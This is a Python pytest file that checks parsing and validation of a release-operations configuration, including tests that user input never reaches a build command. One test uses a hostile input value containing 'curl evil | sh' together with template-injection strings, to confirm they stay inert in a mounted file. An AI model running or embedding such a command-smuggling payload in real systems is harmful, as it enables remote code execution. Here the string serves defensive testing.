"""The operations file: parsed whole, and every mistake named with its place."""

from __future__ import annotations

from typing import Any

import pytest

from liftlock.domain.operations.definition import PRIVILEGED_QUEUE, parse_operations
from liftlock.domain.operations.stage_one import FILE_INSIDE, Asked, compiled, hook_of, stage_one_task
from liftlock.errors import InputInvalidError, InputValidationError, LiftlockError
from operation_builders import NOW, OPERATION_ID, REVISION, STAGE1, operation


def test_a_file_gives_operations_and_approvers() -> None:
    found = parse_operations(
        """
operations:
  format:
    description: d
    project: widget
    stage1: {command: [[ruff, format]]}
    contract: {files: [{names: "**/*.py", most: 100}]}
    stage2: {kind: commit-files, queue: other/privileged}
approvers:
  morgan: {clients: [people/morgan], operations: ["*"]}
"""
    )
    assert found.operations["format"].approvals.need == 1
    assert found.privileged_queues == {PRIVILEGED_QUEUE, "other/privileged"}
    assert found.approvers["morgan"].may_approve("anything")
    assert parse_operations("").operations == {}


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"unknown": 1}, r"operations.publish-widget: Object contains unknown field `unknown`"),
        ({"stage1": {}}, r"operations.publish-widget: .*`command` - at `\$.stage1`"),
        ({"stage1": {"command": []}}, r"length >= 1 - at `\$.stage1.command`"),
        ({"stage1": {"command": [["sh", "-c", "echo ${payload.input}"]]}}, "is not rendered here"),
        ({"stage1": {"command": [["x"]], "more": {"env": {"$eval": "payload"}}}}, "is template language"),
        ({"contract": {"files": []}}, r"length >= 1 - at `\$.contract.files`"),
        ({"contract": {"files": [{"names": "../x"}]}}, "expected a relative path of plain parts"),
        ({"contract": {"files": [{"names": "x", "least": 3}]}}, "least 3 is more than most 1"),
        ({"stage2": {"kind": "Publish"}}, r"matching regex .* - at `\$.stage2.kind`"),
        ({"approvals": {"need": 21}}, r"<= 20 - at `\$.approvals.need`"),
        ({"approvals": {"validHours": 97}}, r"<= 96 - at `\$.approvals.validHours`"),
        ({"refs": []}, r"length >= 1 - at `\$.refs`"),
    ],
)
def test_a_mistake_is_named_with_its_place(change: dict[str, Any], message: str) -> None:
    with pytest.raises((InputValidationError, InputInvalidError), match=message):
        operation(**change)


@pytest.mark.parametrize(
    "text", ["[]", "operations: []", "a: b", "operations: {X: {}}", "{", "operations: {a: 1}"]
)
def test_what_is_no_operations_file_is_an_error_with_a_place(text: str) -> None:
    with pytest.raises(InputValidationError, match=r"^operations"):
        parse_operations(text)


def test_the_version_changes_with_everything_that_is_configured() -> None:
    changes: list[dict[str, Any]] = [
        {"description": "other"},
        {"refs": ["*"]},
        {"input": {"type": "object"}},
        {"stage1": {"command": [["python3", "other.py"]]}},
        {"contract": {"files": [{"names": "dist/*.whl"}]}},
        {"stage2": {"kind": "publish-distribution", "settings": {"index": "https://other"}}},
        {"approvals": {"need": 2}},
    ]
    versions = {
        operation().version,
        operation("other").version,
        *(operation(**each).version for each in changes),
    }
    assert len(versions) == len(changes) + 2
    assert operation().version == operation().version


def test_a_branch_is_taken_by_name_or_prefix() -> None:
    one = operation(refs=["main", "release-*"])
    assert [one.takes_ref(ref) for ref in ("main", "main2", "release-1", "release")] == [
        True,
        False,
        True,
        False,
    ]


def asked(**changes: Any) -> Asked:
    given: dict[str, Any] = {
        "operation_id": OPERATION_ID,
        "operation": "publish-widget",
        "project": "widget",
        "identity": "https://github.com/demo/widget",
        "ref": "main",
        "revision": REVISION,
        "input": {"version": "1.0"},
    }
    return Asked(**(given | changes))


def test_the_input_reaches_stage_one_as_a_file_and_no_part_of_a_command() -> None:
    hostile = {"version": '"; curl evil | sh; ${payload}  {$eval: "1"}'}
    plain = stage_one_task(compiled(operation()), asked(), STAGE1, "people/robin", NOW)
    task = stage_one_task(compiled(operation()), asked(input=hostile), STAGE1, "people/robin", NOW)
    assert task["payload"]["command"] == plain["payload"]["command"] == [["python3", "build.py"]]
    inputs = {one["name"]: one for one in task["payload"]["inputs"]}
    assert inputs["operation"]["mount"] == FILE_INSIDE
    assert "curl evil" in inputs["operation"]["raw"]["content"]
    del inputs["operation"]
    assert "curl" not in repr([{**task, "payload": {**task["payload"], "inputs": list(inputs.values())}}])
    assert inputs["source"]["git"] == {"project": "widget", "revision": REVISION}


def test_the_hook_validates_the_input_and_who_is_asked_for() -> None:
    schema = compiled(operation()).trigger_schema
    schema.validate(asked().payload)
    for wrong in (
        asked(input={"version": 1}),
        asked(operation="other"),
        asked(revision="main"),
        asked(project="x"),
    ):
        with pytest.raises(InputValidationError):
            schema.validate(wrong.payload)


def test_a_schema_that_could_not_be_checked_is_found_at_the_start() -> None:
    with pytest.raises(LiftlockError):
        hook_of(operation(input={"type": "object", "propertees": {}}))
